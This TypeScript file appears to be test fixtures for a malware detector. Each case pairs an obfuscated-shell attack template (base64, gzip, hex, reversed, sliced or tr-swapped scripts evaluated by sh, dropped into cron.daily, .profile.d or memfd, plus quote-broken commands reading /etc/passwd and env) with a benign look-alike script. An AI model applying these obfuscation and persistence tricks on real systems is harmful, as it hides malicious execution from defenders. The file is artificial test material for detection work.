import type { Attack } from '../attack.js';
import { hiding } from './obfuscated-code.js';

/** Shell scripts that put together what they run. */
export const obfuscatedShell: readonly Attack[] = [
  {
    id: 'obfuscated-shell-base64',
    title: 'A shell script in base64, piped into a shell',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    allows: ['drift'],
    attack: hiding`
run('/bin/sh', put('/etc/cron.daily/refresh', '#!/bin/sh\necho %s|base64 -d|sh\n' % b64(SHELL), 0o755))`,
    twin: {
      title: 'a shell script that writes a picture from base64',
      ...hiding`
picture = b'\x89PNG\r\n\x1a\n' + zlib.compress(bytes(chance.randrange(256) for _ in range(9000)))
lines = base64.encodebytes(picture).decode()
put('/srv/logo.sh', '#!/bin/sh\n# writes the logo of the status page\nset -e\nbase64 -d > /srv/logo.png <<END\n' + lines + 'END\necho done\n')
import subprocess
subprocess.run(['/bin/sh', '/srv/logo.sh'], check=True)
stay()`,
    },
  },
  {
    id: 'obfuscated-shell-known',
    title: 'Something known in base64 of gzip of base64, in a shell script',
    technique: 'T1140',
    requires: ['signature'],
    allows: ['obfuscated', 'drift'],
    attack: hiding`
inner = 'echo %s | base64 -d | sh\n' % b64(marked(SHELL))
outer = base64.encodebytes(gzip.compress(inner.encode())).decode()
run('/bin/sh', put('/usr/local/bin/sync', '#!/bin/sh\nbase64 -d <<E | gunzip | sh\n' + outer + 'E\n', 0o755))`,
    twin: {
      title: 'a backup script that writes and reads compressed base64',
      ...hiding`
put('/usr/local/bin/backup', r'''#!/bin/sh
# Keeps the settings of one service as text, as the ticket system takes no binaries.
set -eu
folder=/etc/service
out=/srv/backup/service-$(date +%F).txt
case $1 in
  save) mkdir -p /srv/backup; tar -C "$folder" -cf - . | gzip -9 | base64 > "$out" ;;
  restore) base64 -d < "$2" | gzip -d | tar -C "$folder" -xf - ;;
  list) base64 -d < "$2" | gunzip | tar -tvf - ;;
  *) echo "usage: $0 save|restore FILE|list FILE" >&2; exit 2 ;;
esac
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-shell-hex',
    title: 'A script for bash in hexadecimal escapes, printed and evaluated',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    allows: ['drift'],
    attack: hiding`
run('/bin/bash', put('/srv/.config/start', '#!/bin/bash\neval "$(printf \'%s\')"\n' % hexed(SHELL), 0o755))`,
    twin: {
      title: 'a script that prints greetings in many writings, by escapes',
      ...hiding`
greetings = ['Grüß Gott', 'Здравствуйте', 'こんにちは', 'שלום', 'नमस्ते', 'Γειά σου', '안녕하세요', 'Olá', 'مرحبا']
lines = ["  %d) printf '%s\\n' ;;" % (at, hexed(each)) for at, each in enumerate(greetings)]
put('/srv/greet', '#!/bin/bash\n# the console has no fonts for these: they go to the log\ncase $1 in\n' + '\n'.join(lines) + '\nesac\n')
stay()`,
    },
  },
  {
    id: 'obfuscated-shell-reversed',
    title: 'A script written backwards, turned round and evaluated',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    attack: hiding`
backwards = '\n'.join(line[::-1] for line in SHELL.splitlines()).replace("'", "'\\''")
run('/bin/sh', put('/root/.profile.d/x', "eval \"$(printf '%%s\\n' '%s'|rev)\"\n" % backwards))`,
    twin: {
      title: 'an installer that is meant to be piped into a shell',
      ...hiding`
put('/srv/get.sh', r'''#!/bin/sh
# Installs the tool:  curl -fsSL https://example.com/get.sh | sh
set -u
BASE=https://example.com/releases
main() {
  need uname; need mktemp; need chmod
  os=$(uname -s); machine=$(uname -m)
  case $machine in x86_64|amd64) machine=x86_64 ;; aarch64|arm64) machine=aarch64 ;; *) fail "no release for $machine" ;; esac
  dir=$(mktemp -d) || fail 'no folder for temporary files'
  eval "downloader=\$TOOL_DOWNLOADER"
  fetch "$BASE/$os-$machine.tar.gz" "$dir/tool.tar.gz"
  gunzip -c "$dir/tool.tar.gz" | tar -C /usr/local -xf -
  ignore rm -r "$dir"
}
fetch() { if has curl; then curl -fsSL "$1" -o "$2"; else wget -qO "$2" "$1"; fi; }
has() { command -v "$1" > /dev/null 2>&1; }
need() { has "$1" || fail "need '$1'"; }
fail() { printf '\33[1merror\33[0m: %s\n' "$1" >&2; exit 1; }
ignore() { "$@"; }
main "$@" || exit 1
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-shell-slices',
    title: 'A script for bash out of slices of one variable',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    allows: ['drift'],
    attack: hiding`
letters = sorted(set(SHELL))
chance.shuffle(letters)
pieces = ''.join('$' + '{K:%d:1}' % letters.index(each) for each in SHELL)
run('/bin/bash', put('/opt/.sys/run', "#!/bin/bash\nK=$'%s'\neval \"%s\"\n" % (hexed(''.join(letters)), pieces), 0o755))`,
    twin: {
      title: 'a configure script, as autoconf writes them',
      ...hiding`
def check(name): return r'''
{ printf "%s\n" "$as_me:$LINENO: checking for NAME" >&5
printf %s "checking for NAME... " >&6; }
if eval test \$BLac_cv_func_NAME+y} ; then :
  printf %s "(cached) " >&6
else
  cat > conftest.c <<_ACEOF
char NAME (void);
int main (void) { return NAME (); }
_ACEOF
  if ac_fn_c_try_link "$LINENO" ; then eval "ac_cv_func_NAME=yes" ; else eval "ac_cv_func_NAME=no" ; fi
  rm -f core conftest.err conftest.$ac_objext conftest.beam conftest$ac_exeext conftest.$ac_ext
fi
eval ac_res=\$ac_cv_func_NAME
{ printf "%s\n" "$as_me:$LINENO: result: $ac_res" >&5
printf "%s\n" "$ac_res" >&6; }
if eval test \"x\$"ac_cv_func_NAME"\" = x"yes" ; then
  printf "%s\n" "#define "$(printf "%s\n" "HAVE_NAME" | $as_tr_cpp)" 1" >> confdefs.h
fi
'''.replace('NAME', name).replace('BL', '{')
names = [a + b for a in ('str', 'mem', 'get', 'set', 'f', 'x', 'sys', 'sock') for b in words(40).split()]
head = '#! /bin/sh\n# Guess values for system-dependent variables and create Makefiles.\nas_me=configure\nexec 5>>config.log 6>&1\n'
put('/srv/source/configure', head + ''.join(check(each) for each in names))
stay()`,
    },
  },
  {
    id: 'obfuscated-shell-swapped',
    title: 'A script whose letters are swapped, put right by tr, run from a file without a name',
    technique: 'T1140',
    requires: ['obfuscated'],
    allows: ['memfd', 'deleted'],
    attack: hiding`
letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'
swapped = ''.join(chance.sample(letters, len(letters)))
hidden = SHELL.translate(str.maketrans(letters, swapped)).replace("'", "'\\''")
script = "a='%s'\nb='%s'\nc='%s'\neval \"$(printf %%s \"$c\" | tr \"$b\" \"$a\")\"\n" % (letters, swapped, hidden)
file = os.memfd_create('x')
os.write(file, script.encode())
os.lseek(file, 0, 0)
os.dup2(file, 0)
run('/bin/sh')`,
    twin: {
      title: 'a script with long expressions for sed, awk and tr',
      ...hiding`
put('/srv/report', r'''#!/bin/sh
# From the log of the proxy: hosts by requests, with the countries put in words.
upper=ABCDEFGHIJKLMNOPQRSTUVWXYZ lower=abcdefghijklmnopqrstuvwxyz
sed -E 's/^([0-9]{1,3}(\.[0-9]{1,3}){3}) - ([^ ]+) \[([^]]+)\] "([A-Z]+) ([^" ]+)( HTTP\/[0-9.]+)?" ([0-9]{3}) ([0-9]+|-).*$/\1\t\3\t\4\t\5\t\6\t\8\t\9/;t;d' "$1" |
  tr "$upper" "$lower" |
  awk -F '\t' 'BEGIN { OFS = "\t"; c["de"] = "Germany"; c["fr"] = "France"; c["jp"] = "Japan" }
    $6 ~ /^[23]/ { n[$1]++; b[$1] += $7; if (match($5, /^\/([a-z]{2})\//)) l[$1] = c[substr($5, 2, 2)] }
    END { for (h in n) printf "%-15s %8d %12d %s\n", h, n[h], b[h], (h in l) ? l[h] : "-" }' |
  sort -t ' ' -k 2,2nr | head -n 50
''')
stay()`,
    },
  },
  {
    id: 'obfuscated-shell-quotes',
    title: 'Commands broken up by quotes, backslashes and empty variables',
    technique: 'T1027.010',
    requires: ['obfuscated'],
    attack: hiding`
def broken(word):
    forms = [lambda c: c, lambda c: '\\' + c, lambda c: "'" + c + "'", lambda c: '"' + c + '"', lambda c: "''" + c, lambda c: '$@' + c, lambda c: '""' + c]
    return ''.join(chance.choice(forms)(each) for each in word)
commands = [['cat', '/etc/passwd'], ['uname', '-a'], ['cut', '-d:', '-f1', '/etc/passwd'], ['ls', '-la', '/var/spool'], ['id'], ['env']]
lines = ['$IFS'.join(broken(each) for each in command) + '>>/tmp/.s' for command in commands * 8]
lines = [each.replace('$IFS', '$' + '{IFS}') for each in lines]
run('/bin/sh', put('/tmp/.sh', '\n'.join(lines) + "\ndate +'act %s.%N'\n" + broken('sleep') + ' 86400\n'))`,
    twin: {
      title: 'a completion script with all its quoting',
      ...hiding`
options = ['--' + words(2).replace(' ', '-') for _ in range(80)]
cases = '\n'.join("    '%s'|\"%s=\"*) COMPREPLY=( $(compgen -W '%s' -- \"$cur\") ); return ;;" % (each, each, words(6)) for each in options)
put('/usr/share/bash-completion/completions/tool', r'''# bash completion for tool                                  -*- shell-script -*-
_tool() {
  local cur prev words cword
  _init_completion -n := || return
  case "$prev" in
CASES
  esac
  COMPREPLY=( $( compgen -W '$( _parse_help "$1" )' -- "$cur" ) )
  [[ "$COMPREPLY" == *= ]] && compopt -o nospace
} &&
complete -F _tool tool
'''.replace('CASES', cases))
stay()`,
    },
  },
];
